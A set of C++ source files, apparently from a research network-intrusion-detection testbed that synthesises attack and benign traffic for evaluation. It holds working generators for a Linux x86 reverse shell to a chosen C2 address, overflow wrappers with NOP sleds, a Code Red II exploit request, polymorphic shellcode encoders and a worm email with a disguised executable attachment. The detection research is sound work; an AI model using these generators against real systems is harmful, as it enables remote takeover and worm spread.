    a.xor_r32_r32(R32::ecx, R32::ecx);
    a.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(encoded.size()));
    a.push_r32(R32::esi);      // save payload start for the final ret
    a.bind(lloop);
    a.xor_mem8_imm8(R32::esi, key);
    a.inc_r32(R32::esi);
    a.loop_(lloop);
    a.ret();
    return a.finish();
  };
  const std::size_t stub_len = assemble(1).size();
  Bytes code = assemble(static_cast<std::uint8_t>(stub_len));
  if (code.size() != stub_len) throw EmitError("fnstenv stub length drifted");
  code.insert(code.end(), encoded.begin(), encoded.end());
  return code;
}

util::Bytes make_reverse_shell(std::uint32_t c2_ip_be, std::uint16_t c2_port_be) {
  Asm a;
  // socket(AF_INET, SOCK_STREAM, 0)
  a.xor_r32_r32(R32::eax, R32::eax);
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.push_r32(R32::eax);
  a.push_imm8(0x01);
  a.push_imm8(0x02);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.inc_r32(R32::ebx);                 // SYS_SOCKET
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r32_r32(R32::esi, R32::eax);   // fd

  // connect(fd, {AF_INET, port, ip}, 16)
  // sin_addr arrives big-endian on the wire; the push stores it LE, so
  // byte-swap here to keep network order in memory.
  const std::uint32_t ip_le = ((c2_ip_be & 0xffu) << 24) | ((c2_ip_be & 0xff00u) << 8) |
                              ((c2_ip_be >> 8) & 0xff00u) | (c2_ip_be >> 24);
  a.push_imm32(ip_le);
  a.push_imm32(0x00000002u | (static_cast<std::uint32_t>(c2_port_be) << 16));
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.push_imm8(0x10);
  a.push_r32(R32::ecx);
  a.push_r32(R32::esi);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.mov_r8_imm8(R8::bl, 0x03);         // SYS_CONNECT
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);

  // dup2(fd, 2..0)
  a.mov_r32_r32(R32::ebx, R32::esi);
  a.push_imm8(0x02);
  a.pop_r32(R32::ecx);
  auto ldup = a.new_label();
  a.bind(ldup);
  a.mov_r8_imm8(R8::al, 0x3f);         // dup2
  a.int_imm(0x80);
  a.dec_r32(R32::ecx);
  a.jcc(0x9, ldup);                    // jns: loop for 2,1,0

  emit_execve_push(a);
  return a.finish();
}

util::Bytes wrap_in_overflow(util::ByteView shellcode, util::Prng& prng,
                             const OverflowOptions& options) {
  Bytes out;
  out.reserve(options.preamble.size() + options.filler_len + options.sled_len +
              shellcode.size() + options.ret_count * 4 + 16);
  out.insert(out.end(), options.preamble.begin(), options.preamble.end());
  out.insert(out.end(), options.filler_len, options.filler_byte);
  Bytes sled = make_nop_sled(prng, options.sled_len);
  out.insert(out.end(), sled.begin(), sled.end());
  out.insert(out.end(), shellcode.begin(), shellcode.end());
  // Return-address region: the address must land inside the sled, so only
  // the least significant byte varies (Section 4.2's invariant).
  for (std::size_t i = 0; i < options.ret_count; ++i) {
    util::put_u32le(out, options.ret_base | static_cast<std::uint32_t>(prng.below(0x80)));
  }
  out.insert(out.end(), {'\r', '\n', '\r', '\n'});
  return out;
}

util::Bytes make_iis_asp_overflow_payload(std::uint8_t key) {
  Bytes plain = shell_v2();
  Bytes encoded = plain;
  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ key);

  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  auto lloop = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::esi);
  a.push_r32(R32::esi);  // save the payload start: the final ret runs it
  a.xor_r32_r32(R32::ecx, R32::ecx);
  a.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(encoded.size()));
  a.bind(lloop);
  a.xor_mem8_imm8(R32::esi, key);
  a.inc_r32(R32::esi);
  a.loop_(lloop);
  a.ret();  // jump into the decoded payload
  a.bind(lget);
  a.call(lmain);
  a.raw(encoded);
  return a.finish();
}

util::Bytes make_netsky_like_sample(util::Prng& prng, std::size_t size_bytes) {
  Bytes out;
  out.reserve(size_bytes + 256);

  // Place one decryption loop at a random interior position, surrounded by
  // compiler-plausible function bodies and data blobs.
  const std::size_t decoder_at = size_bytes / 3 + prng.below(size_bytes / 3);
  bool decoder_emitted = false;

  while (out.size() < size_bytes) {
    if (!decoder_emitted && out.size() >= decoder_at) {
      Bytes dec = make_iis_asp_overflow_payload(static_cast<std::uint8_t>(
          1 + prng.below(255)));
      out.insert(out.end(), dec.begin(), dec.end());
      decoder_emitted = true;
      continue;
    }
    if (prng.chance(0.25)) {
      // Data blob (string table / constants).
      Bytes blob = prng.bytes(16 + prng.below(96));
      out.insert(out.end(), blob.begin(), blob.end());
      continue;
    }
    // A small function: prologue, a few moves/ALU ops, epilogue.
    Asm a;
    a.push_r32(R32::ebp);
    a.mov_r32_r32(R32::ebp, R32::esp);
    const std::size_t body = 2 + prng.below(8);
    for (std::size_t i = 0; i < body; ++i) {
      const R32 r = static_cast<R32>(prng.below(4));  // eax..ebx
      switch (prng.below(4)) {
        case 0: a.mov_r32_imm32(r, static_cast<std::uint32_t>(prng.next())); break;
        case 1: a.add_r32_imm(r, static_cast<std::int32_t>(prng.below(1 << 20))); break;
        case 2: a.xor_r32_r32(r, static_cast<R32>(prng.below(4))); break;
        default: a.push_r32(r); a.pop_r32(r); break;
      }
    }
    a.pop_r32(R32::ebp);
    a.ret();
    Bytes fn = a.finish();
    out.insert(out.end(), fn.begin(), fn.end());
  }
  out.resize(size_bytes);
  return out;
}

}  // namespace senids::gen
