#include "gen/codered.hpp"

#include <cstdio>

namespace senids::gen {

using util::Bytes;

namespace {

/// Append one %uXXXX escape carrying two little-endian payload bytes.
void append_u_escape(Bytes& out, std::uint8_t lo, std::uint8_t hi) {
  char buf[8];
  std::snprintf(buf, sizeof buf, "%%u%02x%02x", hi, lo);
  out.insert(out.end(), buf, buf + 6);
}

void append_text(Bytes& out, std::string_view s) {
  out.insert(out.end(), s.begin(), s.end());
}

}  // namespace

Bytes make_code_red_ii_request(const CodeRedOptions& options) {
  util::Prng prng(0);  // unused when vary_padding is false
  CodeRedOptions opts = options;
  opts.vary_padding = false;
  return make_code_red_ii_request(prng, opts);
}

Bytes make_code_red_ii_request(util::Prng& prng, const CodeRedOptions& options) {
  Bytes out;
  append_text(out, "GET /default.ida?");
  out.insert(out.end(), options.filler_len, 'X');

  // The decoded stream is executable x86:
  //   90 90       nop; nop
  //   58          pop eax
  //   68 d3 cb 01 78   push 0x7801cbd3   <- the invariant CRII trampoline
  // repeated three times (as in the captured exploit), followed by the
  // worm's memory-addressing preamble.
  const std::uint8_t body[] = {
      0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78,
      0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78,
      0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb, 0x01, 0x78,
      0x90, 0x90, 0x90, 0x90, 0x90, 0x81, 0xc3, 0x00,
      0x03, 0x00, 0x00, 0x8b, 0x1b, 0x53, 0xff, 0x53,
      0x78, 0x00, 0x00, 0x00,
  };
  static_assert(sizeof(body) % 2 == 0);
  for (std::size_t i = 0; i < sizeof(body); i += 2) {
    append_u_escape(out, body[i], body[i + 1]);
  }
  if (options.vary_padding) {
    const std::size_t extra = prng.below(4);
    for (std::size_t i = 0; i < extra; ++i) append_u_escape(out, 0x90, 0x90);
  }
  append_text(out, "%u00=a  HTTP/1.0\r\nContent-type: text/xml\r\n"
                   "Content-length: 3379\r\n\r\n");
  return out;
}

}  // namespace senids::gen
