// Polymorphic shellcode engines reproducing the obfuscation techniques of
// ADMmutate 0.8.4 and the Clet engine (Section 5.2):
//   * NOP-like sled synthesis (variant one-byte instructions, not 0x90 runs)
//   * key-encoded payload with a generated decoder
//   * two decoder families: xor, and the mov/or/and/not scheme over a
//     single memory location + register pair (the paper's Figure 7 case)
//   * garbage-instruction insertion
//   * equivalent-instruction substitution (inc vs add vs lea vs sub-neg,
//     loop vs dec/jnz, mov-imm vs split-key construction, ...)
//   * register reassignment
//   * out-of-order block sequencing chained with jmp (Figure 1(c))
// Every choice draws from the caller's PRNG, so corpora are reproducible.
#pragma once

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

enum class DecoderScheme : std::uint8_t {
  kXor,       // matched by the xor template
  kAltOrAndNot  // requires the Figure-7 alternate template
};

struct PolyOptions {
  std::size_t sled_min = 8;
  std::size_t sled_max = 48;
  double junk_prob = 0.6;      // junk between consecutive real instructions
  bool out_of_order = true;    // shuffle decoder blocks, chain with jmp
  /// Probability of choosing the xor decoder family. The paper observed
  /// roughly two xor instances for every alternate-scheme instance (the
  /// 68% initial detection rate); 0.68 reproduces that split.
  double xor_scheme_prob = 0.68;
  /// Probability of locating the payload via the fnstenv FPU idiom
  /// instead of jmp/call/pop (the Metasploit-lineage GetPC).
  double fnstenv_getpc_prob = 0.25;
};

enum class GetPcMethod : std::uint8_t { kCallPop, kFnstenv };

struct PolyResult {
  util::Bytes bytes;          // sled + decoder + encoded payload
  DecoderScheme scheme{};
  GetPcMethod getpc{};
  std::uint8_t key = 0;
  std::size_t sled_len = 0;
};

/// ADMmutate-style engine: full obfuscation menu, random scheme.
PolyResult admmutate_encode(util::ByteView payload, util::Prng& prng,
                            const PolyOptions& options = {});

/// Clet-style engine: xor decoder with dec/jnz loop plus "spectrum"
/// padding bytes drawn from an English-text byte distribution so the
/// packet's byte histogram looks like normal traffic.
PolyResult clet_encode(util::ByteView payload, util::Prng& prng,
                       std::size_t spectrum_pad = 64);

/// The NOP-like sled generator on its own (used by tests and by the
/// extraction-stage heuristics evaluation).
util::Bytes make_nop_sled(util::Prng& prng, std::size_t length);

}  // namespace senids::gen
