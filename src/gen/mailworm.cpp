#include "gen/mailworm.hpp"

#include "gen/poly.hpp"
#include "gen/shellcode.hpp"

namespace senids::gen {

using util::Bytes;

namespace {

void append(Bytes& out, std::string_view s) { out.insert(out.end(), s.begin(), s.end()); }

std::string base64_encode(util::ByteView data) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  out.reserve((data.size() + 2) / 3 * 4 + data.size() / 54);
  std::size_t line = 0;
  for (std::size_t i = 0; i < data.size(); i += 3) {
    std::uint32_t acc = static_cast<std::uint32_t>(data[i]) << 16;
    const std::size_t rem = data.size() - i;
    if (rem > 1) acc |= static_cast<std::uint32_t>(data[i + 1]) << 8;
    if (rem > 2) acc |= data[i + 2];
    out.push_back(kAlphabet[(acc >> 18) & 63]);
    out.push_back(kAlphabet[(acc >> 12) & 63]);
    out.push_back(rem > 1 ? kAlphabet[(acc >> 6) & 63] : '=');
    out.push_back(rem > 2 ? kAlphabet[acc & 63] : '=');
    if ((line += 4) >= 72) {
      out += "\r\n";
      line = 0;
    }
  }
  return out;
}

}  // namespace

MailWormSample make_email_worm(util::Prng& prng, util::ByteView payload,
                               const MailWormOptions& options) {
  MailWormSample sample;

  Bytes body = payload.empty() ? make_shell_spawn_corpus()[1].code
                               : Bytes(payload.begin(), payload.end());
  if (options.polymorphic) {
    sample.attachment = admmutate_encode(body, prng).bytes;
  } else {
    sample.attachment = std::move(body);
  }

  Bytes& out = sample.smtp_payload;
  append(out, "EHLO worm.example.net\r\nMAIL FROM:<worm@example.net>\r\n"
              "RCPT TO:<victim@example.org>\r\nDATA\r\n");
  append(out, "From: worm@example.net\r\nTo: victim@example.org\r\nSubject: ");
  append(out, options.subject);
  append(out, "\r\nMIME-Version: 1.0\r\n"
              "Content-Type: multipart/mixed; boundary=\"----=_Part_0\"\r\n\r\n"
              "------=_Part_0\r\nContent-Type: text/plain\r\n\r\n"
              "Please see the attached document.\r\n\r\n"
              "------=_Part_0\r\nContent-Type: application/octet-stream; name=\"");
  append(out, options.attachment_name);
  append(out, "\"\r\nContent-Transfer-Encoding: base64\r\n"
              "Content-Disposition: attachment; filename=\"");
  append(out, options.attachment_name);
  append(out, "\"\r\n\r\n");
  append(out, base64_encode(sample.attachment));
  append(out, "\r\n------=_Part_0--\r\n.\r\nQUIT\r\n");
  return sample;
}

util::Bytes make_benign_email(util::Prng& prng, std::size_t attachment_size) {
  // "Document" bytes: compressible text-ish structure, not code.
  Bytes doc;
  static constexpr char kWords[] = "report meeting quarterly figures attached kind regards ";
  while (doc.size() < attachment_size) {
    doc.push_back(static_cast<std::uint8_t>(kWords[prng.below(sizeof kWords - 1)]));
  }

  Bytes out;
  append(out, "EHLO mail.example.com\r\nMAIL FROM:<alice@example.com>\r\n"
              "RCPT TO:<bob@example.org>\r\nDATA\r\nSubject: minutes\r\n"
              "MIME-Version: 1.0\r\n"
              "Content-Type: application/pdf; name=\"minutes.pdf\"\r\n"
              "Content-Transfer-Encoding: base64\r\n\r\n");
  append(out, base64_encode(doc));
  append(out, "\r\n.\r\nQUIT\r\n");
  return out;
}

}  // namespace senids::gen
