// Benign application-payload corpus for the false-positive evaluation
// (Section 5.4): web requests and responses (HTML, CSS, JSON, base64
// blobs, image-like binary), DNS queries, SMTP transcripts, and
// copy-protected-binary-like blobs (the CrypKey/ASProtect scenario the
// paper argues host-based scanning would misflag).
#pragma once

#include <string>
#include <vector>

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

enum class BenignKind : std::uint8_t {
  kHttpRequest,
  kHttpHtml,
  kHttpJson,
  kHttpBase64,
  kHttpBinary,   // image/compressed-looking high-entropy payload
  kDns,
  kSmtp,
};

struct BenignPayload {
  BenignKind kind{};
  std::uint16_t dst_port = 80;
  bool udp = false;
  util::Bytes data;
};

/// One random benign payload.
BenignPayload make_benign_payload(util::Prng& prng);

/// Approximately `total_bytes` of payloads.
std::vector<BenignPayload> make_benign_corpus(util::Prng& prng, std::size_t total_bytes);

}  // namespace senids::gen
