// Benign application-payload corpus for the false-positive evaluation
// (Section 5.4): web requests and responses (HTML, CSS, JSON, base64
// blobs, image-like binary), DNS queries, SMTP transcripts, and
// copy-protected-binary-like blobs (the CrypKey/ASProtect scenario the
// paper argues host-based scanning would misflag).
#pragma once

#include <string>
#include <vector>

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

enum class BenignKind : std::uint8_t {
  kHttpRequest,
  kHttpHtml,
  kHttpJson,
  kHttpBase64,
  kHttpBinary,   // image/compressed-looking high-entropy payload
  kDns,
  kSmtp,
  // Benign-but-suspicious kinds: emitted only by
  // make_suspicious_benign_payload, never by make_benign_payload (whose
  // distribution is frozen — deterministic corpora depend on it). These
  // deliberately trip individual stage-0 triage probes while carrying no
  // executable content, exercising the escalate-on-doubt path end to end.
  kAsciiSledLookalike,   // long run of 0x40-0x5f ASCII (x86 NOP-like bytes)
  kLargeBase64Blob,      // multi-KB base64 attachment of random bytes
  kCompressedDownload,   // gzip-magic header + high-entropy stream
};

struct BenignPayload {
  BenignKind kind{};
  std::uint16_t dst_port = 80;
  bool udp = false;
  util::Bytes data;
};

/// One random benign payload.
BenignPayload make_benign_payload(util::Prng& prng);

/// One random benign-but-suspicious payload (the three suspicious kinds
/// above, uniform). Must never raise an alert, but is expected to trip
/// stage-0 probes: the triage tier can only reject what no extractor
/// heuristic could possibly frame, and these are framable by design.
BenignPayload make_suspicious_benign_payload(util::Prng& prng);

/// Approximately `total_bytes` of payloads.
std::vector<BenignPayload> make_benign_corpus(util::Prng& prng, std::size_t total_bytes);

}  // namespace senids::gen
