#include "gen/benign.hpp"

#include <cstdio>

namespace senids::gen {

using util::Bytes;
using util::Prng;

namespace {

const char* const kPaths[] = {
    "/", "/index.html", "/news/today", "/api/v2/items", "/static/app.css",
    "/images/logo.png", "/search?q=weather", "/login", "/cart/checkout",
};

const char* const kHosts[] = {
    "www.example.com", "mail.campus.edu", "static.cdn.example.net",
    "intranet.corp.local", "api.shop.example.org",
};

const char* const kWords[] = {
    "the", "quick", "brown", "fox", "network", "packet", "server", "client",
    "report", "meeting", "schedule", "analysis", "update", "release", "data",
    "research", "campus", "library", "course", "project", "result", "paper",
};

void append(Bytes& out, std::string_view s) { out.insert(out.end(), s.begin(), s.end()); }

std::string sentence(Prng& prng, std::size_t words) {
  std::string s;
  for (std::size_t i = 0; i < words; ++i) {
    if (i) s.push_back(' ');
    s += kWords[prng.below(std::size(kWords))];
  }
  s.push_back('.');
  return s;
}

Bytes http_request(Prng& prng) {
  Bytes out;
  append(out, prng.chance(0.8) ? "GET " : "POST ");
  append(out, kPaths[prng.below(std::size(kPaths))]);
  append(out, " HTTP/1.1\r\nHost: ");
  append(out, kHosts[prng.below(std::size(kHosts))]);
  append(out, "\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
              "Accept: text/html,*/*\r\nConnection: keep-alive\r\n\r\n");
  return out;
}

Bytes http_html(Prng& prng) {
  Bytes out;
  append(out, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
              "<html><head><title>");
  append(out, sentence(prng, 3));
  append(out, "</title></head><body>");
  const std::size_t paras = 2 + prng.below(6);
  for (std::size_t i = 0; i < paras; ++i) {
    append(out, "<p>");
    append(out, sentence(prng, 8 + prng.below(24)));
    append(out, "</p>");
  }
  append(out, "</body></html>");
  return out;
}

Bytes http_json(Prng& prng) {
  Bytes out;
  append(out, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"items\":[");
  const std::size_t n = 1 + prng.below(12);
  char buf[96];
  for (std::size_t i = 0; i < n; ++i) {
    std::snprintf(buf, sizeof buf, "%s{\"id\":%llu,\"name\":\"%s\",\"qty\":%llu}",
                  i ? "," : "", static_cast<unsigned long long>(prng.below(100000)),
                  kWords[prng.below(std::size(kWords))],
                  static_cast<unsigned long long>(prng.below(50)));
    append(out, buf);
  }
  append(out, "]}");
  return out;
}

Bytes http_base64(Prng& prng) {
  static constexpr char kB64[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  Bytes out;
  append(out, "HTTP/1.1 200 OK\r\nContent-Transfer-Encoding: base64\r\n\r\n");
  const std::size_t lines = 4 + prng.below(20);
  for (std::size_t i = 0; i < lines; ++i) {
    for (int j = 0; j < 76; ++j) out.push_back(static_cast<std::uint8_t>(kB64[prng.below(64)]));
    append(out, "\r\n");
  }
  return out;
}

Bytes http_binary(Prng& prng) {
  // Image/zip-like: recognizable magic then high-entropy bytes. This is
  // the payload class most likely to contain accidental decoder-looking
  // byte runs, which is exactly what the FP evaluation must exercise.
  Bytes out;
  append(out, "HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\n\r\n");
  out.push_back(0xff);
  out.push_back(0xd8);
  Bytes noise = prng.bytes(512 + prng.below(2048));
  out.insert(out.end(), noise.begin(), noise.end());
  return out;
}

Bytes dns_query(Prng& prng) {
  Bytes out;
  util::put_u16be(out, static_cast<std::uint16_t>(prng.next()));  // id
  util::put_u16be(out, 0x0100);                                   // RD
  util::put_u16be(out, 1);  // QDCOUNT
  util::put_u16be(out, 0);
  util::put_u16be(out, 0);
  util::put_u16be(out, 0);
  const std::string host = kHosts[prng.below(std::size(kHosts))];
  std::size_t start = 0;
  for (std::size_t i = 0; i <= host.size(); ++i) {
    if (i == host.size() || host[i] == '.') {
      out.push_back(static_cast<std::uint8_t>(i - start));
      append(out, std::string_view(host).substr(start, i - start));
      start = i + 1;
    }
  }
  out.push_back(0);
  util::put_u16be(out, 1);  // A
  util::put_u16be(out, 1);  // IN
  return out;
}

Bytes smtp(Prng& prng) {
  Bytes out;
  append(out, "EHLO client.example.com\r\nMAIL FROM:<alice@example.com>\r\n"
              "RCPT TO:<bob@example.org>\r\nDATA\r\nSubject: ");
  append(out, sentence(prng, 4));
  append(out, "\r\n\r\n");
  append(out, sentence(prng, 30 + prng.below(60)));
  append(out, "\r\n.\r\nQUIT\r\n");
  return out;
}

Bytes ascii_sled_lookalike(Prng& prng) {
  // ASCII-art/banner padding whose fill byte lands in 0x40..0x5f — the
  // range the extractor's is_nop_like() accepts wholesale. A run well
  // past min_sled_length guarantees a sled frame is *possible*, so
  // stage-0 must escalate; full analysis then finds nothing to match.
  static constexpr char kFill[] = {'@', 'C', 'H', 'U', 'X', 'Z', '^', '_'};
  Bytes out;
  append(out, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n");
  const std::size_t banners = 2 + prng.below(4);
  for (std::size_t i = 0; i < banners; ++i) {
    const char fill = kFill[prng.below(std::size(kFill))];
    const std::size_t run = 24 + prng.below(56);
    out.insert(out.end(), run, static_cast<std::uint8_t>(fill));
    append(out, "\r\n");
    append(out, sentence(prng, 6 + prng.below(10)));
    append(out, "\r\n");
  }
  return out;
}

Bytes large_base64_blob(Prng& prng) {
  // A properly encoded multi-KB attachment (random plaintext): trips the
  // base64-region gate; the decode yields high-entropy bytes with no
  // code evidence almost always, so this kind straddles the
  // reject-after-decode / escalate-on-coincidence boundary.
  static constexpr char kB64[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  Bytes out;
  append(out, "Content-Type: application/octet-stream\r\n"
              "Content-Transfer-Encoding: base64\r\n\r\n");
  const Bytes raw = prng.bytes(1024 + prng.below(3072));
  std::size_t col = 0;
  for (std::size_t i = 0; i < raw.size(); i += 3) {
    std::uint32_t group = static_cast<std::uint32_t>(raw[i]) << 16;
    std::size_t have = 1;
    if (i + 1 < raw.size()) { group |= static_cast<std::uint32_t>(raw[i + 1]) << 8; ++have; }
    if (i + 2 < raw.size()) { group |= raw[i + 2]; ++have; }
    char quad[4] = {kB64[(group >> 18) & 63], kB64[(group >> 12) & 63],
                    static_cast<char>(have > 1 ? kB64[(group >> 6) & 63] : '='),
                    static_cast<char>(have > 2 ? kB64[group & 63] : '=')};
    for (char c : quad) {
      out.push_back(static_cast<std::uint8_t>(c));
      if (++col == 76) { append(out, "\r\n"); col = 0; }
    }
  }
  if (col) append(out, "\r\n");
  return out;
}

Bytes compressed_download(Prng& prng) {
  // gzip-framed high-entropy stream: binary-region frames are possible
  // (data-shaped), executable content is not.
  Bytes out;
  append(out, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n");
  out.push_back(0x1f);
  out.push_back(0x8b);
  out.push_back(0x08);  // deflate
  out.push_back(0x00);
  Bytes noise = prng.bytes(1024 + prng.below(2048));
  out.insert(out.end(), noise.begin(), noise.end());
  return out;
}

}  // namespace

BenignPayload make_benign_payload(Prng& prng) {
  BenignPayload p;
  switch (prng.below(7)) {
    case 0:
      p.kind = BenignKind::kHttpRequest;
      p.dst_port = 80;
      p.data = http_request(prng);
      break;
    case 1:
      p.kind = BenignKind::kHttpHtml;
      p.dst_port = 80;
      p.data = http_html(prng);
      break;
    case 2:
      p.kind = BenignKind::kHttpJson;
      p.dst_port = 80;
      p.data = http_json(prng);
      break;
    case 3:
      p.kind = BenignKind::kHttpBase64;
      p.dst_port = 80;
      p.data = http_base64(prng);
      break;
    case 4:
      p.kind = BenignKind::kHttpBinary;
      p.dst_port = 80;
      p.data = http_binary(prng);
      break;
    case 5:
      p.kind = BenignKind::kDns;
      p.dst_port = 53;
      p.udp = true;
      p.data = dns_query(prng);
      break;
    default:
      p.kind = BenignKind::kSmtp;
      p.dst_port = 25;
      p.data = smtp(prng);
      break;
  }
  return p;
}

BenignPayload make_suspicious_benign_payload(Prng& prng) {
  BenignPayload p;
  p.dst_port = 80;
  switch (prng.below(3)) {
    case 0:
      p.kind = BenignKind::kAsciiSledLookalike;
      p.data = ascii_sled_lookalike(prng);
      break;
    case 1:
      p.kind = BenignKind::kLargeBase64Blob;
      p.dst_port = 25;
      p.data = large_base64_blob(prng);
      break;
    default:
      p.kind = BenignKind::kCompressedDownload;
      p.data = compressed_download(prng);
      break;
  }
  return p;
}

std::vector<BenignPayload> make_benign_corpus(Prng& prng, std::size_t total_bytes) {
  std::vector<BenignPayload> out;
  std::size_t acc = 0;
  while (acc < total_bytes) {
    out.push_back(make_benign_payload(prng));
    acc += out.back().data.size();
  }
  return out;
}

}  // namespace senids::gen
