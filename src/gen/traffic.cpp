#include "gen/traffic.hpp"

namespace senids::gen {

void TraceBuilder::record(util::ByteView frame) {
  capture_.add(ts_sec_, ts_usec_, frame);
  tick();
}

void TraceBuilder::tick() {
  ts_usec_ += 50 + static_cast<std::uint32_t>(prng_.below(2000));
  while (ts_usec_ >= 1000000) {
    ts_usec_ -= 1000000;
    ++ts_sec_;
  }
}

void TraceBuilder::add_tcp_flow(const net::Endpoint& src, const net::Endpoint& dst,
                                util::ByteView payload, std::size_t mss) {
  net::ForgeOptions opts;
  opts.ip_id = ip_id_++;
  const std::uint32_t isn = static_cast<std::uint32_t>(prng_.next());
  record(net::forge_syn(src, dst, isn, opts));

  std::uint32_t seq = isn + 1;
  std::size_t off = 0;
  while (off < payload.size()) {
    const std::size_t chunk = std::min(mss, payload.size() - off);
    opts.ip_id = ip_id_++;
    record(net::forge_tcp(src, dst, seq, payload.subspan(off, chunk),
                          net::kTcpPsh | net::kTcpAck, opts));
    seq += static_cast<std::uint32_t>(chunk);
    off += chunk;
  }
  opts.ip_id = ip_id_++;
  record(net::forge_tcp(src, dst, seq, {}, net::kTcpFin | net::kTcpAck, opts));
}

void TraceBuilder::add_udp(const net::Endpoint& src, const net::Endpoint& dst,
                           util::ByteView payload) {
  net::ForgeOptions opts;
  opts.ip_id = ip_id_++;
  record(net::forge_udp(src, dst, payload, opts));
}

void TraceBuilder::add_syn_scan(const net::Endpoint& src, net::Ipv4Addr first_target,
                                std::uint16_t dst_port, std::size_t count) {
  for (std::size_t i = 0; i < count; ++i) {
    net::ForgeOptions opts;
    opts.ip_id = ip_id_++;
    net::Endpoint dst{net::Ipv4Addr{first_target.value + static_cast<std::uint32_t>(i)},
                      dst_port};
    record(net::forge_syn(src, dst, static_cast<std::uint32_t>(prng_.next()), opts));
  }
}

void TraceBuilder::add_http_exchange(const net::Endpoint& client,
                                     const net::Endpoint& server,
                                     util::ByteView request, util::ByteView response) {
  add_tcp_flow(client, server, request);
  add_tcp_flow(server, client, response);
}

void TraceBuilder::add_benign(const net::Endpoint& src, net::Ipv4Addr dst_ip,
                              const BenignPayload& p) {
  net::Endpoint dst{dst_ip, p.dst_port};
  if (p.udp) {
    add_udp(src, dst, p.data);
  } else {
    add_tcp_flow(src, dst, p.data);
  }
}

}  // namespace senids::gen
