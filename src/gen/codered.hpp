// Code Red II exploitation-vector generator: reproduces the Figure 5
// request byte-for-byte in format — a well-formed HTTP GET to
// /default.ida, an 'X' overflow filler, and the %uXXXX-encoded body whose
// decoded bytes push the 0x7801cbd3 trampoline address.
#pragma once

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

struct CodeRedOptions {
  std::size_t filler_len = 224;  // 'X' run length
  bool vary_padding = false;     // randomize the trailing %u9090 padding
};

/// The full HTTP request payload (application-layer bytes only).
util::Bytes make_code_red_ii_request(const CodeRedOptions& options = {});

/// Same, with slight per-instance variation (used when planting many
/// instances in the Table 3 traces).
util::Bytes make_code_red_ii_request(util::Prng& prng, const CodeRedOptions& options = {});

}  // namespace senids::gen
