// Email-worm workload generator (the paper's named future-work family):
// an SMTP transaction carrying a MIME message whose base64 attachment is
// a polymorphic executable — a decoder loop wrapped around a
// shell-spawning payload. The NIDS must decode the attachment (base64
// frame extraction) and then see the same decoder/shell semantics it sees
// on exploit traffic.
#pragma once

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

struct MailWormOptions {
  std::string subject = "Re: your document";
  std::string attachment_name = "document.pif";
  bool polymorphic = true;  // wrap the payload with the ADMmutate engine
};

struct MailWormSample {
  util::Bytes smtp_payload;   // full SMTP transaction bytes
  util::Bytes attachment;     // the raw (pre-base64) attachment binary
};

/// One worm email carrying `payload` (defaults to a shell-spawn sample
/// when empty).
MailWormSample make_email_worm(util::Prng& prng, util::ByteView payload = {},
                               const MailWormOptions& options = {});

/// A benign email with a base64 attachment of ordinary document bytes —
/// the false-positive control for the email path.
util::Bytes make_benign_email(util::Prng& prng, std::size_t attachment_size = 2048);

}  // namespace senids::gen
