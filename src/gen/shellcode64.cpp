#include "gen/shellcode64.hpp"

#include "gen/emitter.hpp"

namespace senids::gen {

using util::Bytes;

namespace {

/// 64-bit register numbers (4-bit, REX.B/R extends past 7).
enum class R64 : std::uint8_t {
  rax = 0, rcx, rdx, rbx, rsp, rbp, rsi, rdi,
  r8, r9, r10, r11, r12, r13, r14, r15,
};

/// Thin long-mode layer over the 32-bit emitter: REX-prefixed forms the
/// 64-bit corpus needs, with labels/fixups delegated to the inner Asm.
/// Encodings that are identical in both modes (push imm, int, jcc, byte
/// stores) are used straight off the inner assembler.
struct Asm64 {
  Asm a;

  static std::uint8_t lo3(R64 r) { return static_cast<std::uint8_t>(r) & 7; }
  static bool ext(R64 r) { return static_cast<std::uint8_t>(r) >= 8; }
  void rex(bool w, R64 reg, R64 rm) {
    a.raw8(static_cast<std::uint8_t>(0x40 | (w ? 8 : 0) | (ext(reg) ? 4 : 0) |
                                     (ext(rm) ? 1 : 0)));
  }

  void mov_r64_imm64(R64 r, std::uint64_t v) {
    a.raw8(static_cast<std::uint8_t>(0x48 | (ext(r) ? 1 : 0)));
    a.raw8(static_cast<std::uint8_t>(0xB8 + lo3(r)));
    for (int i = 0; i < 8; ++i) a.raw8(static_cast<std::uint8_t>(v >> (8 * i)));
  }
  void mov_r64_r64(R64 dst, R64 src) {
    rex(true, src, dst);
    a.raw8(0x89);
    a.raw8(static_cast<std::uint8_t>(0xC0 | (lo3(src) << 3) | lo3(dst)));
  }
